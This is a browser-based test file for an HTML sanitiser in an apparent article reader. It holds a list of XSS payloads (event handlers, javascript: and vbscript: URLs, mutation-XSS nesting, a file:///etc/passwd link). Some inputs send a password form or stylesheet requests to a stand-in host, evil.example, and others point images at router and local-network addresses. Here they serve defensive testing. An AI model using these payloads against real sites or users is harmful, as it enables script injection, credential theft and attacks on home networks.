// @vitest-environment node
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { safeLink } from '../../src-renderer/views/article/safe-link'
import { browserPath, openSanitiserPage, type SanitiserBrowser } from './sanitiser-page'

const executable = browserPath()

describe.skipIf(executable === null)('articles in a browser (skipped where there is none)', () => {
  let browser: SanitiserBrowser
  beforeAll(async () => {
    browser = await openSanitiserPage(executable!)
  }, 60_000)
  afterAll(() => browser?.close())

  it.each([
    '<script>window.hit = 1</script>',
    '<frameset onload=hit()><frame src="javascript:hit()"></frameset>',
    '<img src=x onerror=hit()>',
    '<svg onload=hit()><script>hit()</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
    '<iframe srcdoc="<script>hit()</script>"></iframe>',
    '<object data="data:text/html,x"></object><embed src="x">',
    '<a href="java\nscript:hit()">x</a>',
    '<a href=" &#1; javascript:hit()">x</a>',
    '<a href="data:text/html,<script>hit()</script>">x</a>',
    '<a href="vbscript:hit()">x</a><a href="file:///etc/passwd">x</a>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:hit()">x</button></form>',
    '<p style="position:fixed;inset:0;background:url(javascript:hit())">x</p>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:hit()">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<video poster="javascript:hit()" src="javascript:hit()" onplay=hit()></video>',
    '<img src="data:image/svg+xml,<svg onload=hit()>">',
    '<template><script>hit()</script></template><noscript><p title="</noscript><img src=x onerror=hit()>">',
  ])('lose what is dangerous: %s', async (hostile) => {
    const shown = await browser.show(hostile, { remoteMedia: true })
    expect(shown).toMatchObject({ violations: [], effects: [], stable: true })
  })

  it('cannot name anything, so nothing of the page can be shadowed', async () => {
    const { html } = await browser.show(
      '<img name="body" src="data:image/png;base64,AA=="><a id="location" class="x">y</a>',
    )
    expect(html).not.toMatch(/ (id|name|class)=/)
  })

  it('have links that open outside, resolved against their page', async () => {
    const { html } = await browser.show(
      '<a href="../about">a</a><a href="mailto:a@b.example">b</a><a href="#note">c</a>',
    )
    expect([...html.matchAll(/href="([^"]*)"/g)].map(([, address]) => address)).toEqual([
      'https://news.example/about',
      'mailto:a@b.example',
      'https://news.example/7#note',
    ])
    expect(html.match(/target="_blank" rel="noopener noreferrer"/g)).toHaveLength(3)
  })

  it('ask for no picture until that is allowed, and count what they left out', async () => {
    const html = '<p><img src="/a.png" alt="A boat"><img srcset="/b.png 2x, /c.png 3x"></p>'
    const blocked = await browser.show(html)
    expect(blocked).toMatchObject({ blocked: 2, effects: [] })
    expect(blocked.html).toBe(
      '<p><span data-blocked="" dir="auto">[A boat]</span><span data-blocked="" dir="auto">[]</span></p>',
    )
    const shown = await browser.show(html, { remoteMedia: true })
    expect([...shown.html.matchAll(/src="([^"]*)"/g)].map(([, address]) => address)).toEqual([
      'https://news.example/a.png',
      'https://news.example/b.png',
    ])
    expect(shown.html.match(/referrerpolicy="no-referrer"/g)).toHaveLength(2)
  })

  it('show pictures that they carry, and never a spy pixel', async () => {
    const shown = await browser.show(
      '<img src="data:image/png;base64,iVBORw0KGgo="><img src="https://spy.example/p" width=1 height=1>',
      { remoteMedia: true },
    )
    expect(shown.html).toBe('<img src="data:image/png;base64,iVBORw0KGgo=">')
  })

  it('fetch no film by themselves', async () => {
    const shown = await browser.show('<video autoplay src="/film.mp4"></video>', { remoteMedia: true })
    expect(shown.html).toBe('<video src="https://news.example/film.mp4" controls="" preload="none"></video>')
    expect((await browser.show('<video autoplay src="/film.mp4"></video>')).blocked).toBe(1)
  })

  it.each([
    '<img src="http://192.168.1.1/reboot">',
    '<img src="http://3232235777/reboot">',
    '<img src="http://[::ffff:192.168.1.1]/reboot">',
    '<img src="//localhost:8080/x.png">',
    '<img srcset="http://router.local/x.png 2x, https://news.example/a.png 1x">',
    '<img src=" http:\\\\10.0.0.1\\x ">',
    '<video src="http://127.0.0.1:9000/film.mp4" poster="/still.png"></video>',
    '<audio><source src="http://nas/song.ogg"></audio>',
  ])('ask nothing of the user’s own network, whatever is allowed: %s', async (html) => {
    for (const remoteMedia of [false, true]) {
      const shown = await browser.show(html, { remoteMedia })
      expect(shown).toMatchObject({ blocked: 0, refused: 1 })
      expect(shown.html).toMatch(/^<span data-blocked="" dir="auto">/)
    }
  })

  it('lose a poster and a source on the user’s own network, and keep the film', async () => {
    const shown = await browser.show(
      '<video poster="http://10.0.0.1/a.png"><source src="http://10.0.0.1/a.mp4"><source src="/film.mp4"></video>',
      { remoteMedia: true },
    )
    expect(shown).toMatchObject({ blocked: 0, refused: 1 })
    expect(shown.html).toBe(
      '<video controls="" preload="none"><source><source src="https://news.example/film.mp4"></video>',
    )
  })

  it('show pictures on this network when their publisher is there too, once they are allowed', async () => {
    const html = '<img src="http://127.0.0.1:9/x.png">'
    expect(await browser.show(html, { localMedia: true })).toMatchObject({ blocked: 1, refused: 0 })
    const shown = await browser.show(html, { localMedia: true, remoteMedia: true })
    expect(shown).toMatchObject({ blocked: 0, refused: 0 })
    expect(shown.html).toContain('src="http://127.0.0.1:9/x.png"')
  })

  it('have no link where the publisher’s page had a button', async () => {
    expect((await browser.show('<a href="#">more</a><a href=" # ">x</a><a href="">y</a>')).html).toBe(
      '<a>more</a><a>x</a><a>y</a>',
    )
  })

  it('keep what makes them readable', async () => {
    const html =
      '<h2>Head</h2><p dir="rtl" lang="ar">نص <strong>x</strong></p><table><tbody><tr><td colspan="2">c</td></tr></tbody></table>' +
      '<pre><code>a &lt; b</code></pre><ol start="3"><li>x</li></ol><details><summary>s</summary>t</details>'
    expect((await browser.show(html)).html).toBe(html)
  })
})

describe('links', () => {
  it.each([
    ['https://a.example/', 'https://a.example/'],
    ['javascript:x()', null],
    ['java\tscript:x()', null],
    ['crier:add', null],
    ['//b.example/x', null],
    ['', null],
    [null, null],
  ])('are safe or not links at all: %j', (address, expected) => {
    expect(safeLink(address)).toBe(expected)
  })
})
